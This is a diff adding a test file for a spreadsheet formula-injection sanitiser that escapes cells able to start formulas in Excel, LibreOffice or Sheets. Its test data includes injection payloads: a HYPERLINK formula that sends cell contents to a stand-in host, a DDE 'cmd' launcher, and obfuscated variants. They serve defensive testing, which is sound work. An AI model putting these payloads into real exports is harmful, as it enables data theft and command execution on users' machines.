@@ -1,0 +1,236 @@
+/**
+ * Goal: nothing that a vendor says becomes a formula when the output is opened in a spreadsheet program, and what is no
+ * formula comes out as the vendor said it.
+ * Method: tables of what begins a formula and what does not, and arbitrary cells against a rule of our own making, which
+ * is written down here in another way than in the source: it strips what a program may strip and looks at what is left.
+ */
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { CellSafety, safeCell } from '../../src/lib/formulas.ts';
+
+/** Everything that some program passes over before it decides what a cell is. */
+const PASSED_OVER = /^(?:\p{White_Space}|\p{Cc}|\p{Cf})*/u;
+
+/** Whether a spreadsheet program could take the cell for a formula: Excel, LibreOffice or Sheets, in any locale. */
+function mayBeFormula(cell: string): boolean {
+  const [skipped = ''] = PASSED_OVER.exec(cell) ?? [];
+  const first = cell.slice(skipped.length)[0]?.normalize('NFKC') ?? '';
+  return /[\t\r\n]/.test(skipped) || ['=', '+', '-', '@'].includes(first);
+}
+
+/** What a program may make cells of that takes the line apart at another separator than ours: each part, without quotes. */
+function partsOf(cell: string): readonly string[] {
+  return cell.split(/[;,|\t\r\n]/).map((part) => part.replace(/^["\p{White_Space}\p{Cc}\p{Cf}]+/u, ' '));
+}
+
+/** Telephone numbers, and numbers, may stand in a list. */
+function isListOf(cell: string, first: string): boolean {
+  return isNumberOrPhone(first) && [';', ',', '|'].includes(cell[first.length] ?? '');
+}
+
+/** What may begin with a sign: nothing is computed from it, and nothing is looked up. */
+function isNumberOrPhone(cell: string): boolean {
+  const bare = cell.replace(/^ *[+-]?/, '').replace(/%? *$/, '');
+  return /^[\d ,]+(?:\.\d+)?(?:[eE][+-]?\d{1,3})?$/.test(bare);
+}
+
+describe('what begins a formula gets an apostrophe in front, and is otherwise as it was', () => {
+  test.each([
+    '=1+1',
+    '=HYPERLINK("http://evil.example?"&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    '-2+3+cmd|x!A0',
+    '@SUM(1+1)*cmd',
+    '\tAcme',
+    '  =1+1',
+    ' \n Acme',
+    '\u00a0=1+1',
+    '\ufeff=1+1',
+    '\u200b\u2060=1+1',
+    '\u2028=1+1',
+    '＝1+1',
+    '＋1+1',
+    '－1+1',
+    '＠SUM(1)',
+    ' ＝1+1',
+    '﹦1',
+    '=',
+    '-',
+    '--5',
+    '+-5',
+    '-A1',
+    '-5-3',
+    '-5 %+A1',
+    '+61-2-9999-0000',
+    '+61\u00a02 9999 0000',
+    '-5\n',
+    '@acme',
+  ])('%j', (cell) => {
+    expect(safeCell(cell)).toEqual({ text: `'${cell}`, wasFormula: true });
+  });
+});
+
+describe('what would begin one where a program takes the line apart gets the apostrophe there', () => {
+  test.each([
+    ['Acme;=1+1', "Acme;'=1+1"],
+    ['Acme, @SUM(1)', "Acme,' @SUM(1)"],
+    ['a|+1+1|b', "a|'+1+1|b"],
+    ['a\t-A1', "a\t'-A1"],
+    ['a\n=1', "a\n'=1"],
+    ['a\r\n=1', "a\r\n'=1"],
+    ['a;"=1+1"', `a;'"=1+1"`],
+    ['a;""=1+1', `a;'""=1+1`],
+    ['a; \u00a0\u200b=1', "a;' \u00a0\u200b=1"],
+    ['a;\t=1', "a;\t'=1"],
+    ['a;＝1', "a;'＝1"],
+    ['=1;=2', "'=1;'=2"],
+    ['+61 2 9999 0000\n=1', "'+61 2 9999 0000\n'=1"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r=1+1', "'\r'=1+1"],
+    ['\n=1+1', "'\n'=1+1"],
+    ['-1,234;-2+3', "-1,234;'-2+3"],
+  ])('%j', (cell, text) => {
+    expect(safeCell(cell)).toEqual({ text, wasFormula: true });
+  });
+});
+
+describe('what is no formula stays as it is', () => {
+  test.each([
+    '',
+    ' ',
+    'Acme & Co',
+    "'=1+1",
+    'Acme; Beta, Gamma | Delta',
+    '+61 2 9999 0000; +61 2 9999 0001',
+    '-5, +3;-1.5\t7',
+    'Smith-Jones, Jo; a=b',
+    '{"a":1,"b":-5,"c":"x"}',
+    '"=1+1"',
+    '1+1',
+    'a=b',
+    'jo@acme.example',
+    '2026-11-20T00:00:00.000Z',
+    '−5',
+    '-5',
+    '+3',
+    '-0.5',
+    '-5%',
+    '-1,234,567.89',
+    '-1.5e-7',
+    '+1E+12',
+    ' -5 ',
+    '+61 2 9999 0000',
+    '+61299990000',
+    '+1 212 555 0100',
+    '+64 9 555 0100 ',
+    'Zürich',
+    '日本',
+    '🙂=1',
+  ])('%j', (cell) => {
+    expect(safeCell(cell)).toEqual({ text: cell, wasFormula: false });
+  });
+});
+
+/** Cells that are made of what formulas begin with more often than chance would make them. */
+const cells = fc.oneof(
+  fc.string({ unit: 'binary' }),
+  fc
+    .array(
+      fc.oneof(
+        fc.constantFrom(...'=+-@＝＋－＠;|\t\r\n \u00a0\ufeff\u0000\u200b\'"1,.%eE5A('),
+        fc.string({ unit: 'grapheme', maxLength: 3 }),
+      ),
+      { maxLength: 8 },
+    )
+    .map((parts) => parts.join('')),
+);
+
+test('no cell that was made safe begins a formula in any program, unless it is a number or a telephone number', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text } = safeCell(cell);
+      const [first = ''] = text.split(/[;,|\t\r\n]/);
+      expect(mayBeFormula(text) && !isNumberOrPhone(text) && !isListOf(text, first)).toBe(false);
+      const parts = isNumberOrPhone(text) ? [] : partsOf(text).slice(1);
+      expect(parts.filter((part) => mayBeFormula(part) && !isNumberOrPhone(part))).toEqual([]);
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test.each([
+  ['Acme\u0000', 'Acme'],
+  ['\u001b[31mAcme\u001b[0m', '[31mAcme[0m'],
+  ['1\u0008\u007f', '1'],
+  ['Line one\nline two\tend', 'Line one\nline two\tend'],
+  // A letter of Windows-1252 that was read as Latin-1: without a sign the name would be another one.
+  ['O\u0092Brien', 'O\uFFFDBrien'],
+  ['\u009b31m', '\uFFFD31m'],
+  ['\u0000=1+1', "'=1+1"],
+])('%j has no character in it that a terminal obeys and nobody sees', (cell, text) => {
+  expect(safeCell(cell).text).toBe(text);
+  expect(new CellSafety('raw').cell(cell)).toBe(cell);
+});
+
+/** Without the control characters that no cell of ours holds. */
+const visible = (cell: string): string =>
+  cell.replace(/[^\P{Cc}\t\n\r]/gu, (character) => (character < '\u0080' ? '' : '\uFFFD'));
+
+test('nothing is lost: a safe cell is the cell, or the cell with apostrophes where a formula would begin', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text, wasFormula } = safeCell(cell);
+      expect(text.replaceAll("'", '')).toBe(visible(cell).replaceAll("'", ''));
+      expect(wasFormula).toBe(text !== visible(cell));
+      const couldBe = [visible(cell), ...partsOf(visible(cell))].some(mayBeFormula);
+      expect(wasFormula && !couldBe).toBe(false);
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test('a safe cell that is read again and written again is the same', () => {
+  fc.assert(
+    fc.property(cells, (cell) => {
+      const { text } = safeCell(cell);
+      expect(safeCell(text)).toEqual({ text, wasFormula: false });
+    }),
+    { numRuns: 2_000 },
+  );
+});
+
+test('every number and every international telephone number stays as it is', () => {
+  const number = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), fc.maxSafeInteger());
+  const phone = fc
+    .tuple(
+      fc.integer({ min: 1, max: 999 }),
+      fc.array(fc.integer({ min: 100, max: 9999 }), { minLength: 2, maxLength: 3 }),
+    )
+    .map(([country, groups]) => `+${[country, ...groups].join(' ')}`);
+  fc.assert(
+    fc.property(fc.oneof(number.map(String), phone), (cell) => {
+      expect(safeCell(cell)).toEqual({ text: cell, wasFormula: false });
+    }),
+  );
+});
+
+test('a long cell of blanks takes no longer than it has to', () => {
+  const blanks = `${' '.repeat(1_000_000)}A`;
+  expect(safeCell(blanks).wasFormula).toBe(false);
+  expect(safeCell(`+${'1 '.repeat(500_000)}`).wasFormula).toBe(true);
+});
+
+describe('of a whole output', () => {
+  test('what was made safe is counted', () => {
+    const safety = new CellSafety('safe');
+    expect(['=1', 'Acme', '-5', '@x'].map((cell) => safety.cell(cell))).toEqual(["'=1", 'Acme', '-5', "'@x"]);
+    expect(safety.marked).toBe(2);
+  });
+
+  test('raw: all is as the vendor said it, and nothing is counted', () => {
+    const safety = new CellSafety('raw');
+    expect(['=1', '\t@x'].map((cell) => safety.cell(cell))).toEqual(['=1', '\t@x']);
+    expect(safety.marked).toBe(0);
+  });
+});
